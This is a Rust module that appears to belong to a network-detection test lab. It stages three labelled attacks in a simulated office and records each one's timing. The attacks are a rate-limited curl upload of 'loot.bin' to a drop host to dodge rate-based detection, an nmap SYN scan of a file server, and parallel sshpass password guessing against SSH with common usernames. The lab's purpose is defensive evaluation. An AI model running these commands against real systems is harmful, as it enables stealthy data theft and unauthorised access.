//! The three planted attacks, each with a real program, and when each took place.

use std::{process::Child, sync::Arc, thread, time::Duration};

use super::{
    background::SSH_OPTIONS,
    now,
    office::{DROP_ADDRESS, GUESSER_ADDRESS, Office},
    stop::Stop,
    truth::Planted,
};
use crate::process::{Failure, run};

/// Runs the attacks at their times, and returns when `length` is over.
pub(super) fn run_all(
    office: &Arc<Office>,
    stop: &Arc<Stop>,
    length: Duration,
) -> Result<Vec<Planted>, Failure> {
    stop.wait(length.mul_f64(0.22));
    let exfiltration = Exfiltration::start(office, length.mul_f64(0.62))?;
    stop.wait(length.mul_f64(0.20));
    let scan = scan(office)?;
    stop.wait(length.mul_f64(0.20));
    let guessing = guess(office, stop)?;
    let exfiltration = exfiltration.finish()?;
    stop.wait(length.mul_f64(0.10));
    Ok(vec![exfiltration, scan, guessing])
}

/// A workstation sends files out over HTTPS, slowly enough to go under in the rates.
struct Exfiltration {
    child: Child,
    planted: Planted,
}

/// Bytes a second: a hundredth of the uplink.
const EXFILTRATION_RATE_BYTES: u64 = 24_000;

impl Exfiltration {
    fn start(office: &Office, time: Duration) -> Result<Self, Failure> {
        let bytes = EXFILTRATION_RATE_BYTES * time.as_secs();
        let url = format!("https://{DROP_ADDRESS}/upload");
        let rate = EXFILTRATION_RATE_BYTES.to_string();
        let file = office.path("loot.bin");
        run(std::process::Command::new("truncate")
            .args(["-s", &bytes.to_string()])
            .arg(&file))?;
        let start = now();
        let child = office
            .on("ws3", time.as_secs() + 60, "curl")
            .args(["-sk", "--limit-rate", &rate, "-T"])
            .arg(&file)
            .arg(&url)
            .spawn()
            .map_err(|source| Failure::Start {
                program: "curl".to_owned(),
                source,
            })?;
        let planted = Planted {
            kind: "exfiltration",
            actor: "192.168.20.23".to_owned(),
            victim: DROP_ADDRESS.to_owned(),
            ports: vec![443],
            start,
            end: start,
            tool: format!("curl --limit-rate {rate} -T loot.bin {url}"),
            note: format!(
                "{bytes} bytes at {EXFILTRATION_RATE_BYTES} bytes a second to a host that nobody else talks to"
            ),
        };
        Ok(Self { child, planted })
    }

    fn finish(mut self) -> Result<Planted, Failure> {
        let status = self.child.wait().map_err(|source| Failure::Start {
            program: "curl".to_owned(),
            source,
        })?;
        if !status.success() {
            return Err(Failure::Check(format!(
                "the exfiltration did not come through: {status}"
            )));
        }
        self.planted.end = now();
        Ok(self.planted)
    }
}

/// A workstation scans the file server.
fn scan(office: &Office) -> Result<Planted, Failure> {
    const ARGUMENTS: &[&str] = &[
        "-sS",
        "-Pn",
        "-n",
        "--top-ports",
        "300",
        "--max-rate",
        "60",
        "192.168.20.5",
    ];
    let start = now();
    run(office.on("ws4", 60, "nmap").args(ARGUMENTS))?;
    Ok(Planted {
        kind: "port scan (vertical)",
        actor: "192.168.20.24".to_owned(),
        victim: "192.168.20.5".to_owned(),
        ports: Vec::new(),
        start,
        end: now(),
        tool: format!("nmap {}", ARGUMENTS.join(" ")),
        note: "300 ports, 60 probes a second; 22 and 873 are open".to_owned(),
    })
}

/// Somebody outside guesses passwords of the file server's SSH, three connections at a time.
fn guess(office: &Arc<Office>, stop: &Arc<Stop>) -> Result<Planted, Failure> {
    const USERS: &[&str] = &["root", "admin", "backup", "test", "oracle", "git"];
    const GUESSES_EACH: usize = 24;
    let start = now();
    let guessers: Vec<_> = (0..3)
        .map(|guesser| {
            let (office, stop) = (Arc::clone(office), Arc::clone(stop));
            thread::spawn(move || {
                for guess in 0..GUESSES_EACH {
                    let user = format!("{}@192.168.20.5", USERS[(guess + guesser) % USERS.len()]);
                    let _ = office
                        .on("outside", 15, "sshpass")
                        .args(["-p", &format!("guess{guess}"), "ssh", "-b", GUESSER_ADDRESS])
                        .args(SSH_OPTIONS)
                        .args([
                            "-o",
                            "NumberOfPasswordPrompts=1",
                            "-o",
                            "PreferredAuthentications=password",
                            &user,
                            "true",
                        ])
                        .status();
                    stop.wait(Duration::from_millis(250));
                }
            })
        })
        .collect();
    for guesser in guessers {
        guesser
            .join()
            .map_err(|_| Failure::Check("a guesser's thread panicked".to_owned()))?;
    }
    Ok(Planted {
        kind: "password guessing",
        actor: GUESSER_ADDRESS.to_owned(),
        victim: "192.168.20.5".to_owned(),
        ports: vec![22],
        start,
        end: now(),
        tool: "sshpass -p GUESS ssh -o NumberOfPasswordPrompts=1 USER@192.168.20.5".to_owned(),
        note: format!(
            "{} logins with a wrong password, three at a time",
            3 * GUESSES_EACH
        ),
    })
}
